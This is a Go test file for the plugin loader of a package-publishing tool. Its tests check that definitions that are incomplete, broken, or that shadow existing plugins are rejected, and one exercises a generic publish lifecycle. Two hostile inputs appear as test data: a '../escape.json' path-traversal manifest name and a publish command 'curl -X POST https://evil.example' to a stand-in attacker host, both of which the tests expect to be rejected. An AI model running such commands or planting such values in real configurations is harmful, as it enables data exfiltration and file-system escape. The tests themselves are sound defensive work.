package plugins

import (
	"context"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"packship/internal/command"
	"packship/internal/registry"
)

const goodPlugin = `package main

func RegistryDefinition() map[string]interface{} {
	return map[string]interface{}{
		"name":              "jsr",
		"manifestFile":      "jsr.json",
		"publishCommand":    "npm exec jsr publish",
		"dryRunCommand":     "npm exec jsr publish --dry-run",
		"verifyUrlTemplate": "https://jsr.example/${PACKAGE_NAME}/${VERSION}",
	}
}
`

func writePlugin(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "plugin.go")
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func discard() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func TestLoadGoodDefinition(t *testing.T) {
	def, err := Load(writePlugin(t, goodPlugin))
	if err != nil {
		t.Fatalf("load: %v", err)
	}
	if def.Name != "jsr" || def.ManifestFile != "jsr.json" {
		t.Errorf("definition = %+v", def)
	}
	if !strings.HasPrefix(def.PublishCommand, "npm ") {
		t.Errorf("publishCommand = %q", def.PublishCommand)
	}
}

func TestLoadRejectsIncompleteDefinition(t *testing.T) {
	path := writePlugin(t, `package main

func RegistryDefinition() map[string]interface{} {
	return map[string]interface{}{"name": "jsr"}
}
`)
	if _, err := Load(path); err == nil {
		t.Error("expected error for definition without manifestFile")
	}
}

func TestLoadRejectsManifestWithPathSeparators(t *testing.T) {
	path := writePlugin(t, `package main

func RegistryDefinition() map[string]interface{} {
	return map[string]interface{}{
		"name":           "jsr",
		"manifestFile":   "../escape.json",
		"publishCommand": "npm exec jsr publish",
	}
}
`)
	if _, err := Load(path); err == nil {
		t.Error("expected error for manifestFile containing a path separator")
	}
}

func TestLoadBrokenSource(t *testing.T) {
	if _, err := Load(writePlugin(t, "package main\nfunc broken( {")); err == nil {
		t.Error("expected error for unparsable plugin source")
	}
}

func TestRegisterSkipsBrokenAndShadowingPlugins(t *testing.T) {
	reg := registry.NewRegistry()
	reg.Register("npm", func(registry.Deps) registry.Plugin { return nil })

	good := writePlugin(t, goodPlugin)
	broken := writePlugin(t, "not even go")
	shadow := writePlugin(t, strings.Replace(goodPlugin, `"jsr"`, `"npm"`, 1))

	Register(reg, []string{good, broken, shadow}, discard())

	names := reg.Names()
	if len(names) != 2 {
		t.Fatalf("names = %v, want [npm jsr]", names)
	}
	if names[1] != "jsr" {
		t.Errorf("names = %v", names)
	}
}

type fakeRunner struct {
	lastArgs []string
	result   *command.Result
}

func (f *fakeRunner) Run(ctx context.Context, dir string, env []string, name string, args ...string) (*command.Result, error) {
	f.lastArgs = append([]string{name}, args...)
	if f.result != nil {
		return f.result, nil
	}
	return &command.Result{ExitCode: 0}, nil
}

func TestGenericPluginLifecycle(t *testing.T) {
	def, err := Load(writePlugin(t, goodPlugin))
	if err != nil {
		t.Fatal(err)
	}
	project := t.TempDir()
	runner := &fakeRunner{}
	g := newGeneric(def, registry.Deps{ProjectPath: project, Exec: runner})

	if ok, _ := g.Detect(context.Background()); ok {
		t.Error("detected without manifest")
	}

	manifest := `{"name":"@demo/pkg","version":"0.9.0"}`
	if err := os.WriteFile(filepath.Join(project, "jsr.json"), []byte(manifest), 0o644); err != nil {
		t.Fatal(err)
	}
	if ok, _ := g.Detect(context.Background()); !ok {
		t.Error("manifest not detected")
	}

	vr, err := g.Validate(context.Background())
	if err != nil {
		t.Fatalf("validate: %v", err)
	}
	if !vr.Valid {
		t.Errorf("validate = %+v", vr)
	}
	if vr.Metadata.Version != "0.9.0" {
		t.Errorf("metadata = %+v", vr.Metadata)
	}

	pr, err := g.Publish(context.Background(), registry.PublishOptions{})
	if err != nil {
		t.Fatalf("publish: %v", err)
	}
	if !pr.Success || pr.Version != "0.9.0" {
		t.Errorf("publish = %+v", pr)
	}
	if got := strings.Join(runner.lastArgs, " "); got != "npm exec jsr publish" {
		t.Errorf("args = %q", got)
	}
}

func TestGenericPluginRejectsUnlistedPublishBinary(t *testing.T) {
	def := &Definition{
		Name:           "evil",
		ManifestFile:   "evil.json",
		PublishCommand: "curl -X POST https://evil.example",
	}
	project := t.TempDir()
	if err := os.WriteFile(filepath.Join(project, "evil.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	g := newGeneric(def, registry.Deps{ProjectPath: project, Exec: &fakeRunner{}})

	vr, err := g.Validate(context.Background())
	if err != nil {
		t.Fatalf("validate: %v", err)
	}
	if vr.Valid {
		t.Error("definition with unlisted binary validated")
	}
}
